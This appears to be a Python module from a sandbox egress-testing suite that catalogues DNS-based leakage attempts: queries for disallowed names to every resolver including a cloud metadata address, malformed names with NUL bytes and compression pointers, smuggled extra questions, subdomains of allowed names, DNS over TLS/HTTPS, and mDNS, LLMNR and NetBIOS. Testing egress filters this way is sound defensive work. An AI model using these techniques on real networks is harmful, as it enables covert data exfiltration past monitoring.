"""Names that carry something out, and answers that bring something in."""

import contextlib
import socket

from attempts.catalogue import Surroundings, attempt
from attempts.wire import ask, client_hello, dns_query, labels, say, tell


def _everyone(s: Surroundings) -> tuple[str, ...]:
    return (*s.router, *s.elsewhere, "8.8.8.8", "169.254.169.254", "10.0.0.53", "fd00::53")


def _ask_everyone(s: Surroundings, query: bytes) -> None:
    for server in _everyone(s):
        for over_tcp in (False, True):
            try:
                ask(server, query, over_tcp=over_tcp, patience=0.3)
            except OSError:
                continue


@attempt("DNS", "a name that is not allowed, at every server, UDP and TCP")
def _(s: Surroundings, mark: str) -> None:
    for kind in (1, 28, 16, 15, 255, 252, 65, 5, 6):
        query = dns_query(labels(f"payload.{mark}.example"), kind)
        for over_tcp in (False, True):
            try:
                ask(s.elsewhere[0], query, over_tcp=over_tcp, patience=0.3)
            except OSError:
                continue
    _ask_everyone(s, dns_query(labels(f"payload.{mark}.example")))


@attempt("DNS", "odd case, a trailing dot, a NUL, a dot inside a label")
def _(s: Surroundings, mark: str) -> None:
    server = s.elsewhere[0]
    good = labels(s.allowed_name)
    tries = [
        labels(f"PayLoad.{mark}.Example"),
        bytes((len(mark) + 2,)) + mark.encode() + b"\0x" + good,
        bytes((len(mark) + 2,)) + mark.encode() + b".x" + good,
        good[:-1] + bytes((len(mark),)) + mark.encode() + b"\0",
        bytes((len(mark),)) + mark.encode() + b"\xc0\x0c",
    ]
    for name in tries:
        try:
            ask(server, dns_query(name), patience=0.2)
        except OSError:
            continue


@attempt("DNS", "two questions, and something behind the question")
def _(s: Surroundings, mark: str) -> None:
    server = s.elsewhere[0]
    good = dns_query(labels(s.allowed_name))
    bad = dns_query(labels(f"x.{mark}.example"))[12:]
    for query in (
        good[:4] + b"\0\2" + good[6:] + bad,
        good + mark.encode(),
        good[:10] + b"\0\1" + good[12:] + bad + bytes(6),
        good[:2] + b"\x28\0" + good[4:] + bad,
        b"\0\7" + b"\x85\0" + good[4:] + bad,
    ):
        try:
            ask(server, query, patience=0.2)
        except OSError:
            continue


@attempt("DNS", "below an allowed name that is no wildcard")
def _(s: Surroundings, mark: str) -> None:
    with contextlib.suppress(OSError):
        socket.getaddrinfo(f"{mark}.{s.allowed_name}", 443)


@attempt("DNS", "over TLS and over HTTPS, elsewhere")
def _(s: Surroundings, mark: str) -> None:
    for target in s.elsewhere:
        for port in (853, 443):
            try:
                say(target, port, client_hello(f"dns.{mark}"))
            except OSError:
                continue


@attempt("DNS", "multicast DNS, LLMNR, NetBIOS")
def _(s: Surroundings, mark: str) -> None:
    query = dns_query(labels(f"x.{mark}.local"))
    for target, port in (("224.0.0.251", 5353), ("224.0.0.252", 5355), (s.router[0], 137)):
        try:
            tell(target, port, query)
        except OSError:
            continue
